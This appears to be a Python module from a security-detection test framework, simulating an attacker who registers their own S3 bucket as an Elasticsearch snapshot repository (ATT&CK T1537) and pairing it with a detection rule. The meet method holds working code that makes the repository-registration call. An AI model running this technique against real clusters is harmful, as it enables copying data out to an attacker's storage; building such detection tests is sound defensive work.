"""G12: an attacker registers a snapshot repository of their own."""

from contextlib import closing

from backwatch.attack.techniques.search import AbusedSearch


class ElasticsearchCopiedOut(AbusedSearch):
    """An app whose account may do everything."""

    attack = "registers a bucket of the attacker's as a place for snapshots"
    reference = (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/snapshots-register-repository.html; "
        "ATT&CK T1537"
    )
    rule = "search-admin"
    captures = b"PUT /_snapshot/nightly"

    def meet(self) -> object:
        """Register the repository as the attacker."""
        repository = {"type": "s3", "settings": {"bucket": "backup-of-shop"}}
        with closing(self.client.open()) as client:
            return client.snapshot.create_repository(name="nightly", repository=repository)["acknowledged"]
